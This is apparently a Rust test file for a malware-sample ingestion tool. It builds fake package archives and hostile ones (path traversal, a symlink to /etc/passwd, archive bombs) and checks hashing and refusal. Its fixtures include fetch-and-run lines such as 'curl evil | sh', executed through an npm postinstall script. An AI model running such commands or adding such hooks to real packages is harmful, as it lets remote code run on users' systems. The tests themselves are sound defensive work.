//! `scioc ingest sample`: real archive shapes built here, and hostile ones.

use crate::support::{FEED, Scioc};
use sha2::{Digest, Sha256};
use std::io::Write;

use hex::encode as hex;

/// A tar of `(path, content)` files; paths are written raw, so hostile ones survive.
fn tar_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, content) in files {
        let mut h = tar::Header::new_old();
        let name = &mut h.as_old_mut().name;
        name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_size(content.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_cksum();
        b.append(&h, *content).unwrap();
    }
    b.into_inner().unwrap()
}

use crate::support::gz;

fn zip_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, content) in files {
        z.start_file(*path, zip::write::SimpleFileOptions::default()).unwrap();
        z.write_all(content).unwrap();
    }
    z.finish().unwrap().into_inner()
}

fn write(s: &Scioc, name: &str, bytes: &[u8]) -> String {
    let p = s.dir.path().join(name);
    std::fs::write(&p, bytes).unwrap();
    p.display().to_string()
}

fn events(s: &Scioc) -> u64 {
    let v: serde_json::Value = serde_json::from_str(&s.ok(&["status", "--format", "json"], "")).unwrap();
    v["events"].as_u64().unwrap()
}

#[tokio::test]
async fn every_archive_kind_is_hashed_file_by_file() {
    let s = Scioc::new();
    s.add_user("alice", "reader");
    let index_js = b"require('child_process').exec('curl evil | sh')".as_slice();
    let npm = gz(&tar_bytes(&[
        ("package/package.json", br#"{"name":"@evil/pkg","version":"1.2.3","repository":{"url":"git+https://github.com/e/p.git"},"scripts":{"postinstall":"node index.js"}}"#),
        ("package/index.js", index_js),
    ]));
    let npm_path = write(&s, "pkg-1.2.3.tgz", &npm);
    s.ok(
        &[
            "ingest",
            "sample",
            &npm_path,
            "--threat-name",
            "Script-JS.Downloader.SupplyChain",
            "--threat-level",
            "4",
            "--source-url",
            "https://registry.npmjs.org/@evil/pkg/-/pkg-1.2.3.tgz",
        ],
        "",
    );

    let whl = zip_bytes(&[
        ("evil_pkg/__init__.py", b"import os"),
        ("evil_pkg-0.1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: evil-pkg\nVersion: 0.1\n\n"),
    ]);
    let sdist = gz(&tar_bytes(&[
        ("evil-0.2/PKG-INFO", b"Metadata-Version: 2.1\nName: evil\nVersion: 0.2\n"),
        ("evil-0.2/setup.py", b"print(1)"),
    ]));
    let krate = gz(&tar_bytes(&[
        ("evil-0.1.0/Cargo.toml", b"[package]\nname = \"evil\"\nversion = \"0.1.0\"\n"),
        ("evil-0.1.0/build.rs", b"fn main(){}"),
    ]));
    let data = gz(&tar_bytes(&[("lib/evil.rb", b"system('id')")]));
    let meta = gz(
        b"--- !ruby/object:Gem::Specification\nname: evilgem\nversion: !ruby/object:Gem::Version\n  version: 1.2.3\n",
    );
    let gem = tar_bytes(&[("metadata.gz", &meta), ("data.tar.gz", &data)]);
    let paths = [
        write(&s, "evil_pkg-0.1-py3-none-any.whl", &whl),
        write(&s, "evil-0.2.tar.gz", &sdist),
        write(&s, "evil-0.1.0.crate", &krate),
        write(&s, "evilgem-1.2.3.gem", &gem),
    ];
    let mut args = vec!["ingest", "sample", "--force"];
    args.extend(paths.iter().map(String::as_str));
    s.ok(&args, "");

    crate::support::next_second().await;
    let server = s.serve(&[]);
    let page = server.client().as_user("alice").page(&format!("{FEED}/utc/2011-03-29T00:00:00?format=json")).await;
    let e = &page.feed().entries;
    assert_eq!(e.len(), 5);
    let npm_entry = &e[0];
    assert_eq!(npm_entry["identity"]["purl"], "pkg:npm/%40evil/pkg@1.2.3");
    assert_eq!(npm_entry["identity"]["repository"], "https://github.com/e/p.git");
    assert_eq!(npm_entry["sha256"], hex(Sha256::digest(&npm)));
    assert_eq!(npm_entry["sample_size"], npm.len().to_string());
    assert_eq!(npm_entry["filename"], "pkg-1.2.3.tgz");
    assert_eq!(npm_entry["source_url"], "https://registry.npmjs.org/@evil/pkg/-/pkg-1.2.3.tgz");
    // The analyser names the malicious file (index.js, run by the postinstall script); the
    // override names its threat; the harmless files are hashed in the store, not announced.
    let samples = npm_entry["sample_list"].as_array().unwrap();
    assert_eq!(samples[0]["sha256"], hex(Sha256::digest(&npm)), "the archive first");
    let index = samples.iter().find(|x| x["sha256"] == hex(Sha256::digest(index_js))).expect("index.js is announced");
    assert_eq!(index["threat_name"], "Script-JS.Downloader.SupplyChain");
    assert_eq!(index["threat_level"], "4");
    let files = npm_entry["scioc"]["provenance"]["files"].as_array().unwrap();
    assert_eq!(files[0], "pkg-1.2.3.tgz");
    assert!(files.iter().any(|f| f == "package/index.js"), "{files:?}");
    assert_eq!(files.len(), samples.len());

    let purls: Vec<&str> = e[1..].iter().map(|x| x["identity"]["purl"].as_str().unwrap()).collect();
    assert_eq!(purls, ["pkg:pypi/evil-pkg@0.1", "pkg:pypi/evil@0.2", "pkg:cargo/evil@0.1.0", "pkg:gem/evilgem@1.2.3"]);
    let gem_files = &e[4]["scioc"]["provenance"]["files"];
    assert!(gem_files.as_array().unwrap().iter().any(|f| f == "data.tar.gz/lib/evil.rb"), "{gem_files}");
}

#[test]
fn hostile_archives_are_refused_and_nothing_is_stored() {
    let s = Scioc::new();
    // A store that holds nothing yet, so that "nothing stored" is read from it.
    s.add_user("reader", "reader");
    let good = write(
        &s,
        "good-1.0.0.tgz",
        &gz(&tar_bytes(&[("package/package.json", br#"{"name":"good","version":"1.0.0"}"#)])),
    );
    let zeros = vec![0u8; 40 * 1024 * 1024];
    let mut symlink = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    symlink.append_link(&mut h, "package/link", "../../etc/passwd").unwrap();
    let symlink = gz(&symlink.into_inner().unwrap());
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("traversal-1.0.0.tgz", gz(&tar_bytes(&[("package/../../escape.js", b"x")])), "climbs out of the archive"),
        ("absolute-1.0.0.tgz", gz(&tar_bytes(&[("/etc/cron.d/evil", b"x")])), "absolute path"),
        ("symlink-1.0.0.tgz", symlink, "points outside the archive"),
        ("traversal.whl", zip_bytes(&[("../evil.py", b"x")]), "climbs out of the archive"),
        ("bomb-1.0.0.tgz", gz(&tar_bytes(&[("package/zeros", &zeros)])), "archive bomb"),
        ("bomb.zip", zip_bytes(&[("pkg/zeros", &zeros)]), "archive bomb"),
        ("notes.txt", b"hello".to_vec(), "expected an npm .tgz"),
        ("garbage-1.0.0.tgz", b"not gzip".to_vec(), "not a readable tar"),
    ];
    for (name, bytes, needle) in &cases {
        let path = write(&s, name, bytes);
        let out = s.run(&["ingest", "sample", "--force", &good, &path], "");
        assert_eq!(out.status.code(), Some(1), "{name}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(needle) && err.contains(name), "{name}: {err}");
        assert!(err.contains("nothing was imported"), "{name}: {err}");
    }
    let many: Vec<(String, Vec<u8>)> = (0..6).map(|i| (format!("package/f{i}"), vec![b'x'])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(p, c)| (p.as_str(), c.as_slice())).collect();
    let path = write(&s, "many-1.0.0.tgz", &gz(&tar_bytes(&many)));
    let out = s.run(&["ingest", "sample", "--force", "--max-files", "5", &path], "");
    assert!(String::from_utf8_lossy(&out.stderr).contains("more than 5 entries"));
    assert_eq!(events(&s), 0, "nothing of a refused batch is stored");

    // No manifest: the identity must be given.
    let bare = write(&s, "bare.tgz", &gz(&tar_bytes(&[("payload.sh", b"curl x | sh")])));
    let out = s.run(&["ingest", "sample", "--force", &bare], "");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--purl"));
    s.ok(&["ingest", "sample", "--force", &bare, "--purl", "pkg:npm/bare@6.6.6"], "");
    assert_eq!(events(&s), 1);
}

/// Issue 13, defect 9: a 622 KB `.tgz` of 99,991 empty files became one event of 26 MB (JSON)
/// and 32 MB (XML), sent to every client pulling its page. The event now lists the archive and
/// its first 999 files and says how many it left out; the store keeps the whole list.
#[tokio::test]
async fn an_archive_of_many_files_makes_a_bounded_event_and_the_store_keeps_every_file() {
    let s = Scioc::new();
    s.add_user("alice", "reader");
    let files = 99_991;
    let mut b = tar::Builder::new(Vec::new());
    let manifest = br#"{"name":"many","version":"1.0.0"}"#;
    let mut h = tar::Header::new_gnu();
    h.set_size(manifest.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, "package/package.json", &manifest[..]).unwrap();
    for i in 1..files {
        let mut h = tar::Header::new_gnu();
        h.set_size(0);
        h.set_mode(0o644);
        b.append_data(&mut h, format!("package/f{i}"), std::io::empty()).unwrap();
    }
    let path = write(&s, "many-1.0.0.tgz", &gz(&b.into_inner().unwrap()));
    let out = s.ok(&["ingest", "sample", "--force", &path], "");
    assert!(out.contains("99991 files (the event lists 999 of them; the store keeps all)"), "{out}");

    crate::support::next_second().await;
    let server = s.serve(&[]);
    let c = server.client().as_user("alice");
    for format in ["json", "xml"] {
        let r = c.get(&format!("{FEED}/utc/2011-03-29T00:00:00?format={format}")).await;
        assert_eq!(r.status(), 200);
        let size = r.bytes().await.unwrap().len();
        assert!(size < 1024 * 1024, "a {format} page of one archive event is {size} bytes");
    }
    let page = c.page(&format!("{FEED}/utc/2011-03-29T00:00:00?format=json")).await;
    let e = &page.feed().entries[0];
    assert_eq!(e["sample_list"].as_array().unwrap().len(), scioc_model::MAX_SAMPLES);
    let provenance = &e["scioc"]["provenance"];
    assert_eq!(provenance["files"].as_array().unwrap().len(), scioc_model::MAX_SAMPLES);
    assert_eq!(provenance["files"][1], "package/package.json");
    assert_eq!(provenance["omitted_files"], files - 999);
    drop(server);

    use scioc_store::Store;
    let store = scioc_store::SqliteStore::open(&s.data_dir()).unwrap();
    let state = store.source_state("archive").await.unwrap();
    assert_eq!(state.records.len(), 1);
    let kept: serde_json::Value = serde_json::from_str(&state.records[0].state).unwrap();
    let kept = kept["files"].as_array().unwrap();
    assert_eq!(kept.len(), files as usize, "every file, with its hashes");
    assert_eq!(kept[files as usize - 1]["path"], format!("package/f{}", files - 1));
    assert_eq!(kept[5]["sha256"], hex(Sha256::digest(b"")));
}
